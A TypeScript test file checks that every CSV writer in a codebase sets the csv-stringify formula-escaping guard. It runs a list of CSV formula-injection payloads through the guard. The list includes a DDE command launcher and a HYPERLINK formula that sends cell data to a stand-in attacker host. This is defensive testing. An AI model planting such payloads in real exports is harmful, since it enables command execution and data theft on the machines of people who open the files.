import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { nodesOf, runtimeSources, type SourceFile, type SyntaxNode } from './source-files.js';

/** Files that write CSV without the library's guard, and why they are safe. */
const reviewed: Record<string, string> = {
  'services/quoting/src/settings/makes-csv.ts':
    'Escapes names itself, so that they can be read back: makes-csv.spec.ts.',
  'services/quoting/src/imports/import-template.ts': 'Two fixed examples.',
};

const payloads = [
  ...[
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
  ],
  ...[
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    'A","=1+1","B',
    '=1\n=2',
    "-2+3+cmd|' /C calc'!D2",
  ],
];

const node = (value: unknown) => value as SyntaxNode | null | undefined;
const list = (value: unknown) => (Array.isArray(value) ? value : []) as SyntaxNode[];

const writesCsv = ({ text }: SourceFile) => /from 'csv-stringify/.test(text);

/** Whether every call of the library in a file sets its guard explicitly. */
function isGuarded(file: SourceFile): boolean {
  const calls = [...nodesOf(file)].filter(
    ({ type, callee }) => type === 'CallExpression' && node(callee)?.value === 'stringify',
  );
  const guards = calls.map(({ arguments: args }) => {
    const options = node(list(args)[1]?.expression);
    return list(options?.properties).some(
      ({ key, value }) => node(key)?.value === 'escape_formulas' && node(value)?.value === true,
    );
  });
  return guards.length > 0 && guards.every(Boolean);
}

describe('T19: formulas in CSV', () => {
  it('are escaped wherever CSV is written', () => {
    const writers = runtimeSources(['services/*', 'libs/*', 'gateway', 'stack']).filter(writesCsv);
    const unguarded = writers.filter((file) => !isGuarded(file)).map(({ path }) => path);
    expect(unguarded.filter((path) => !Object.hasOwn(reviewed, path))).toEqual([]);
  });

  it.each([
    ['stringify(rows, { bom: true, escape_formulas: true })', true],
    ['stringify(rows, { bom: true })', false],
    ['stringify(rows, { escape_formulas: false })', false],
    ['stringify(rows)', false],
  ])('are detected in %s: %s', (text, guarded) => {
    expect(isGuarded({ path: 'snippet.ts', text })).toBe(guarded);
  });

  it(`become text, in ${payloads.length} payloads, while numbers stay numbers`, () => {
    const csv = stringify([...payloads.map((payload) => [payload]), [12.5], ['10234']], {
      escape_formulas: true,
    });
    const cells = parse(csv, { relax_column_count: true }).map(([cell = '']) => cell);
    expect(cells).toHaveLength(payloads.length + 2);
    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(cells.slice(-2)).toEqual(['12.5', '10234']);
  });
});
